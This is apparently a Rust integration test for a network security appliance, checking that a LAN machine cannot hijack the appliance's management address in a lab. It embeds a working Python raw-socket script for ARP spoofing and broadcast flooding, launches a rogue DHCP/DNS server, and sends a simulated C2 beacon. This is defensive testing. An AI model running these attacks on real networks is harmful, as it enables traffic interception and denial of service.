//! Issue 21, finding 4: a LAN PC must not capture the appliance's own address (the in-band
//! management stack). Against the real `mimamori-appliance run` in the lab, ET Open
//! loaded, the cloud on the lab's internet node, the uplink in-band:
//!
//! 1. a rogue DHCP server on the LAN (dnsmasq on the LAN PC, offering itself as gateway and
//!    DNS) while the appliance re-acquires its address → it keeps its WAN-side lease (an
//!    address of the inet dnsmasq's range, gateway and DNS 198.18.0.1) and reconnects;
//! 2. ARP spoofing from the LAN PC (replies and requests claiming the gateway/cloud
//!    198.18.0.1 with the PC's MAC) → heartbeats keep arriving, a later alert arrives;
//! 3. a broadcast flood from the LAN (ARP requests for the appliance's address and UDP
//!    broadcasts, 64 source MACs) → heartbeats keep arriving, a later alert arrives;
//!
//! and the legitimate path: the LAN still pings the appliance, `ctl stats` counts what
//! was dropped. Needs root; skipped otherwise.

use std::time::{Duration, Instant};

use mimamori_tests::corpus;
use mimamori_tests::system::*;
use serde_json::Value;

/// Raw frames from the LAN PC's eth0.
/// `arp OUR_IP OUR_MAC ROUNDS`: per round (0.2 s) an ARP reply to the appliance, an ARP
/// request for its address and a gratuitous ARP, each claiming 198.18.0.1 is at this PC.
/// `flood OUR_IP FRAMES SECS`: broadcasts (ARP requests for the appliance's address and
/// UDP to 255.255.255.255) from 64 source MACs, as fast as they go, bounded.
const ATTACK_PY: &str = r#"import socket, struct, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
me = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
ip = lambda a: socket.inet_aton(a)
GW = ip("198.18.0.1")
def arp(dst, src, op, sha, spa, tha, tpa):
    return (dst + src + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, op)
            + sha + spa + tha + tpa).ljust(60, b"\0")
mode, ours = sys.argv[1], ip(sys.argv[2])
if mode == "arp":
    mac = bytes.fromhex(sys.argv[3].replace(":", ""))
    for _ in range(int(sys.argv[4])):
        s.send(arp(mac, me, 2, me, GW, mac, ours))
        s.send(arp(b"\xff" * 6, me, 1, me, GW, b"\0" * 6, ours))
        s.send(arp(b"\xff" * 6, me, 2, me, GW, b"\xff" * 6, GW))
        time.sleep(0.2)
else:
    frames, end = int(sys.argv[3]), time.time() + float(sys.argv[4])
    udp = b"\x45\x00\x00\x24\x00\x00\x40\x00\x40\x11\x00\x00" + ip("198.18.0.10") + ip("255.255.255.255")
    udp += struct.pack("!HHHH", 40000, 9, 16, 0) + b"flood!!!"
    n = 0
    while n < frames and time.time() < end:
        src = b"\x02\x66\x00\x00\x00" + bytes([n % 64])
        s.send(arp(b"\xff" * 6, src, 1, src, ip("198.18.0.10"), b"\0" * 6, ours))
        s.send((b"\xff" * 6 + src + b"\x08\x00" + udp).ljust(60, b"\0"))
        n += 2
    print(n)
"#;

fn mgmt(s: &System) -> Value {
    s.lab.ctl("stats")["stats"]["mgmt"].clone()
}

fn host(cidr: &Value) -> String {
    cidr.as_str()
        .and_then(|c| c.split('/').next())
        .unwrap_or_default()
        .to_string()
}

fn last_heartbeat(s: &System) -> i64 {
    s.device()["last_heartbeat_ms"].as_i64().unwrap_or(0)
}

/// The management address is the inet dnsmasq's (.100–.150), gateway and DNS 198.18.0.1.
fn assert_wan_lease(m: &Value) {
    let ip = host(&m["ipv4"]);
    let last: u8 = ip
        .strip_prefix("198.18.0.")
        .and_then(|l| l.parse().ok())
        .unwrap_or(0);
    assert!(
        (100..=150).contains(&last),
        "the management address {ip} is not from the WAN-side DHCP server: {m}"
    );
    assert_eq!(m["gateway"], "198.18.0.1", "gateway: {m}");
    assert_eq!(m["dns"], serde_json::json!(["198.18.0.1"]), "DNS: {m}");
}

/// A fresh C2 check-in from the LAN reaches the cloud as an alert.
fn fresh_alert_arrives(s: &System, what: &str) {
    let before = cloud_alerts(s, C2_SID).len();
    let r = s
        .lab
        .curl("lan", 5, &["-4", "http://c2.lab.test/c2/beacon"]);
    assert_ne!(r.stdout.trim(), "ok", "{what}: the C2 beacon got through");
    wait(&format!("{what}: the C2 alert in the cloud"), 45, || {
        cloud_alerts(s, C2_SID).len() > before
    });
}

/// Runs `attack` (seconds long) while watching the cloud: heartbeats keep arriving.
fn heartbeats_through(s: &System, what: &str, secs: u64, attack: impl FnOnce()) {
    let h0 = last_heartbeat(s);
    let t = Instant::now();
    attack();
    let took = t.elapsed();
    assert!(
        took >= Duration::from_secs(secs - 2),
        "{what}: the attack ended early ({took:?})"
    );
    // heartbeats every 2 s: over the attack's length at most ~5 s without one
    let h1 = last_heartbeat(s);
    assert!(
        h1 - h0 >= took.as_millis() as i64 - 5_000,
        "{what}: heartbeats stopped ({} ms of heartbeats in {took:?})\n{}",
        h1 - h0,
        s.device()
    );
    assert_eq!(s.device()["online"], true, "{what}: {}", s.device());
}

#[test]
#[ignore = "WIP (issue 21 open): rogue DHCP and ARP spoofing are defeated (both pass); after the broadcast flood the next C2 alert does not reach the cloud within 45 s, to be diagnosed"]
fn lan_cannot_capture_the_management_stack() {
    let et = corpus().join("et-open/rules");
    let Some(mut s) = System::up_with("mgm", "", false, &[et], "[bridge]\nworkers = 1\n") else {
        return;
    };
    let m = mgmt(&s);
    assert_wan_lease(&m);
    let ours = host(&m["ipv4"]);
    let our_mac = m["mac"].as_str().unwrap_or_default().to_string();
    let py = s.dir.join("attack.py");
    std::fs::write(&py, ATTACK_PY).expect("attack script");
    let py = py.to_string_lossy().to_string();

    // the LAN may still find and ping the appliance (answered without the stack)
    let ping = s.lab.exec("lan", &["ping", "-c", "3", "-W", "2", &ours]);
    assert_eq!(ping.code, 0, "ping {ours} from the LAN: {}", ping.stdout);
    assert!(mgmt(&s)["counters"]["office_answered"].as_u64() >= Some(3));

    // 1. a rogue DHCP server on the LAN PC, offering itself as gateway and DNS, while the
    // appliance starts again and acquires its address
    let leases = s.dir.join("rogue.leases");
    let mut rogue = s.lab.spawn(
        "lan",
        &[
            "dnsmasq",
            "-k",
            "--no-resolv",
            "--no-hosts",
            "--no-ping",
            "--dhcp-authoritative",
            "--bind-interfaces",
            "--interface=eth0",
            "--listen-address=198.18.0.10",
            "--dhcp-range=198.18.0.200,198.18.0.250,255.255.255.0,2m",
            "--dhcp-option=3,198.18.0.10",
            "--dhcp-option=6,198.18.0.10",
            &format!("--dhcp-leasefile={}", leases.display()),
            "--address=/cloud.lab.test/198.18.0.10",
            &format!("--pid-file={}", s.dir.join("rogue.pid").display()),
        ],
    );
    std::thread::sleep(Duration::from_secs(1));
    s.lab.stop();
    s.lab.respawn();
    wait("a management address after the restart", 60, || {
        mgmt(&s)["ipv4"].is_string()
    });
    s.wait_online(Duration::from_secs(60));
    let m = mgmt(&s);
    assert_wan_lease(&m);
    fresh_alert_arrives(&s, "after the rogue DHCP server");
    let _ = rogue.kill();
    let _ = rogue.wait();
    let ours = host(&m["ipv4"]);

    // 2. ARP spoofing: 50 rounds over 10 s claiming the gateway/cloud is the LAN PC
    heartbeats_through(&s, "ARP spoofing", 10, || {
        let r = s
            .lab
            .exec("lan", &["python3", &py, "arp", &ours, &our_mac, "50"]);
        assert_eq!(r.code, 0, "attack script: {}", r.stderr);
    });
    fresh_alert_arrives(&s, "after ARP spoofing");
    let c = &mgmt(&s)["counters"];
    assert!(
        c["office_dropped"].as_u64() >= Some(100),
        "the spoofed ARP is not counted: {c}"
    );

    // 3. a broadcast flood from the LAN: 10 s, at most 2 million frames
    heartbeats_through(&s, "broadcast flood", 10, || {
        let r = s
            .lab
            .exec("lan", &["python3", &py, "flood", &ours, "2000000", "10"]);
        assert_eq!(r.code, 0, "flood script: {}", r.stderr);
        eprintln!("flood: {} frames", r.stdout.trim());
    });
    fresh_alert_arrives(&s, "after the broadcast flood");
    let m = mgmt(&s);
    assert_wan_lease(&m);
    let c = &m["counters"];
    eprintln!("mgmt after the attacks: {m}");
    assert!(
        c["office_dropped"].as_u64().unwrap_or(0) + c["rate_limited"].as_u64().unwrap_or(0)
            >= 1_000,
        "the flood is not counted: {c}"
    );
    assert_eq!(c["dhcp_lost"], 0, "{c}");
}
